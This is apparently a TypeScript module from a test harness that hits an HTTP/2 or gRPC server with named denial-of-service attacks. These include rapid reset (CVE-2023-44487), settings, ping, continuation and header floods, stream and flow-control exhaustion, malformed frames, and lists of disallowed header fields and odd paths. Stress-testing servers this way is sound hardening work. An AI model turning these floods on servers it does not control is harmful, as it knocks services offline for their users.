import type { Random } from '../../runtime/seeded-random.js';
import { wholeBetween } from '../../runtime/seeded-random.js';
import { oneOf, randomBytes } from './hostile-values.js';
import { ACK, call, callFields, END_HEADERS, END_STREAM, FRAME, frame } from './http2-frames.js';
import { hpack, PREFACE, reset, settings, window } from './http2-frames.js';
import { framed } from './raw-call.js';
import { RudeSocket } from './socket-flood.js';

export interface AttackContext {
  readonly address: string;
  readonly random: Random;
  /** Paths of methods that are there. */
  readonly paths: readonly string[];
  readonly forMs: number;
}

export type Attack = (context: AttackContext) => Promise<void>;

const BATCH = 200;

/** Something to do with a connection after a proper beginning. */
function flood(next: (context: AttackContext, count: number) => Buffer, reads = true): Attack {
  return async (context) => {
    using socket = new RudeSocket(context.address, reads);
    await socket.send(Buffer.concat([PREFACE, settings()]));
    let count = 0;
    await socket.flood(context.forMs, () =>
      Buffer.concat(Array.from({ length: BATCH }, () => next(context, count++))),
    );
  };
}

/** Bytes once, then silence. */
function once(bytes: (context: AttackContext) => Buffer): Attack {
  return async (context) => {
    using socket = new RudeSocket(context.address);
    await socket.send(bytes(context));
    await socket.linger(context.forMs);
  };
}

const begun = (...frames: readonly Buffer[]): Buffer =>
  Buffer.concat([PREFACE, settings(), ...frames]);

const streamOf = (count: number): number => 2 * count + 1;
const somePath = ({ random, paths }: AttackContext): string => oneOf(random, paths);
const EMPTY_MESSAGE = framed(Buffer.alloc(0));

/** What can be done to an HTTP/2 server, by name. */
export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  // CVE-2023-44487.
  'rapid reset': flood((context, count) =>
    Buffer.concat([call(streamOf(count), somePath(context)), reset(streamOf(count))]),
  ),
  'rapid reset of whole calls': flood((context, count) =>
    Buffer.concat([
      call(streamOf(count), somePath(context)),
      frame(FRAME.data, END_STREAM, streamOf(count), EMPTY_MESSAGE),
      reset(streamOf(count)),
    ]),
  ),
  // CVE-2019-9515.
  'settings flood': flood(() => settings([[3, 100]])),
  'settings flood, nothing read': flood(() => settings([[4, 65_535]]), false),
  // CVE-2019-9512.
  'ping flood': flood(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  'ping flood, nothing read': flood(() => frame(FRAME.ping, 0, 0, Buffer.alloc(8)), false),
  // CVE-2019-9514: each frame makes the server reset a stream.
  'resets provoked': flood((context, count) =>
    Buffer.concat([call(streamOf(count), somePath(context)), window(streamOf(count), 0)]),
  ),
  // CVE-2019-9518.
  'empty frames': flood((context, count) =>
    count === 0 ? call(1, somePath(context)) : frame(FRAME.data, 0, 1),
  ),
  'priority flood': flood((_, count) =>
    frame(FRAME.priority, 0, streamOf(count % 50), Buffer.from([0, 0, 0, (count % 50) | 1, 16])),
  ),
  'window flood': flood((_, count) => window(count % 2, 1)),
  'data of unknown streams': flood((_, count) =>
    frame(FRAME.data, 0, streamOf(count), Buffer.alloc(100)),
  ),
  'acknowledgements of nothing': flood(() => frame(FRAME.settings, ACK, 0)),
  'unknown frames': flood(({ random }) =>
    frame(wholeBetween(random, 10, 255), 255, wholeBetween(random, 0, 9), randomBytes(random, 30)),
  ),
  'random frames': flood(({ random }) =>
    frame(
      ...([wholeBetween(random, 0, 11), wholeBetween(random, 0, 255)] as const),
      ...([wholeBetween(random, 0, 7), randomBytes(random, wholeBetween(random, 0, 24))] as const),
    ),
  ),
  // CVE-2024-27983 and its kin.
  'continuation flood': async (context) => {
    using socket = new RudeSocket(context.address);
    const first = frame(FRAME.headers, 0, 1, hpack(callFields(somePath(context))));
    await socket.send(begun(first));
    let count = 0;
    await socket.flood(context.forMs, () =>
      Buffer.concat(
        Array.from({ length: BATCH }, () =>
          frame(FRAME.continuation, 0, 1, hpack([[`x-${String(count++)}`, 'y'.repeat(500)]])),
        ),
      ),
    );
  },
  'header flood': flood((context, count) => {
    const more = Array.from({ length: 100 }, (_, index) => [`x-${String(index)}`, 'z'.repeat(100)]);
    const fields = [...callFields(somePath(context)), ...(more as [string, string][])];
    return frame(FRAME.headers, END_HEADERS | END_STREAM, streamOf(count), hpack(fields));
  }),
  'headers that are too large': once((context) => {
    const fields = [...callFields(somePath(context)), ['x', 'y'.repeat(15_000)] as const];
    const parts = Array.from({ length: 40 }, (_, index) =>
      frame(
        FRAME.continuation,
        index === 39 ? END_HEADERS : 0,
        1,
        hpack([['x', 'y'.repeat(15_000)]]),
      ),
    );
    return begun(frame(FRAME.headers, 0, 1, hpack(fields)), ...parts);
  }),
  // Answers are asked for and never taken.
  'a window that never opens': async (context) => {
    using socket = new RudeSocket(context.address);
    await socket.send(Buffer.concat([PREFACE, settings([[4, 0]])]));
    for (let count = 0; count < 900; count++)
      await socket.send(
        Buffer.concat([
          call(streamOf(count), somePath(context)),
          frame(FRAME.data, END_STREAM, streamOf(count), EMPTY_MESSAGE),
        ]),
      );
    await socket.linger(context.forMs);
  },
  'windows that overflow': once(() => begun(window(0, 2 ** 31 - 1), window(0, 2 ** 31 - 1))),
  'a window that grows and shrinks': flood((_, count) =>
    settings([[4, count % 2 === 0 ? 2 ** 31 - 1 : 0]]),
  ),
  'half-open streams': async (context) => {
    using socket = new RudeSocket(context.address);
    await socket.send(begun());
    const opened = Array.from({ length: 990 }, (_, count) =>
      call(streamOf(count), somePath(context)),
    );
    await socket.send(Buffer.concat(opened));
    await socket.linger(context.forMs);
  },
  // Each stream brings most of a large message and then stops.
  'uploads that never end': async (context) => {
    using socket = new RudeSocket(context.address);
    await socket.send(begun());
    const header = Buffer.from([0, 3, 0, 0, 0]);
    const streams = 24;
    for (let count = 0; count < streams; count++) {
      const head = frame(FRAME.data, 0, streamOf(count), header);
      await socket.send(Buffer.concat([call(streamOf(count), somePath(context)), head]));
    }
    let count = 0;
    const payload = Buffer.alloc(16_384);
    await socket.flood(context.forMs, () =>
      frame(FRAME.data, 0, streamOf(count++ % streams), payload),
    );
    await socket.linger(context.forMs / 2);
  },
  'garbage instead of a beginning': once(({ random }) => randomBytes(random, 5000)),
  'garbage after the beginning': once(({ random }) => begun(randomBytes(random, 5000))),
  'HTTP/1.1': once(() => Buffer.from('GET / HTTP/1.1\r\nhost: x\r\n\r\n')),
  'a TLS hello': once(({ random }) =>
    Buffer.concat([Buffer.from('1603010200010001fc0303', 'hex'), randomBytes(random, 500)]),
  ),
  'half a beginning': once(() => PREFACE.subarray(0, 10)),
  silence: once(() => Buffer.alloc(0)),
  'a half-closed connection': async (context) => {
    using socket = new RudeSocket(context.address);
    await socket.send(begun(call(1, somePath(context))));
    socket.halfClose();
    await socket.linger(context.forMs);
  },
  'a frame that is too long': once(() => begun(Buffer.from('ffffff000000000001', 'hex'))),
  'bad compression': once(({ random }) =>
    begun(frame(FRAME.headers, END_HEADERS, 1, randomBytes(random, 300))),
  ),
  'goodbye, then more calls': flood((context, count) =>
    count === 0
      ? frame(FRAME.goaway, 0, 0, Buffer.alloc(8))
      : call(streamOf(count), somePath(context), END_HEADERS | END_STREAM),
  ),
  'streams that depend on themselves': once((context) =>
    begun(
      frame(
        ...([FRAME.headers, END_HEADERS | 32, 1] as const),
        Buffer.concat([Buffer.from([0, 0, 0, 1, 16]), hpack(callFields(somePath(context)))]),
      ),
    ),
  ),
  'pushes from a client': flood((_, count) =>
    frame(FRAME.push, END_HEADERS, 1, Buffer.from([0, 0, 0, (2 * count + 2) & 255])),
  ),
  'fields that are not allowed': flood((context, count) => {
    const odd = oneOf(context.random, ODD_FIELDS);
    return frame(
      ...([FRAME.headers, END_HEADERS | END_STREAM, streamOf(count)] as const),
      hpack([...callFields(somePath(context)), ...odd]),
    );
  }),
  'odd paths': flood(({ random }, count) =>
    call(streamOf(count), oneOf(random, ODD_PATHS), END_HEADERS | END_STREAM),
  ),
};

const ODD_FIELDS: readonly (readonly (readonly [string, string])[])[] = [
  [['Upper', 'x']],
  [['connection', 'close']],
  [[':path', '/twice']],
  [[':status', '200']],
  [['x', '\u00ff\u0080']],
  [['grpc-timeout', '\u00ff']],
  [['x-bin', '\u00ff']],
  [['grpc-encoding', '\u00e9\u00ff']],
  [['content-length', '5']],
  [['content-length', '-1']],
  [['te', 'gzip']],
  [['transfer-encoding', 'chunked']],
  [['', 'nameless']],
  [['__proto__', 'x']],
  [['cookie', 'a=b']],
];

const ODD_PATHS = [
  ...[
    '',
    '/',
    '*',
    '//',
    '/\u00e9',
    '/\u00ff\u0080/x',
    '/%',
    '/%zz',
    '/a b',
    '/a\u007f',
    '/__proto__',
  ],
  ...[`/${'p'.repeat(9000)}`, '/constructor', '/fractory.v1.MathService/', '?', '/x\u00ad/\u00fe'],
];
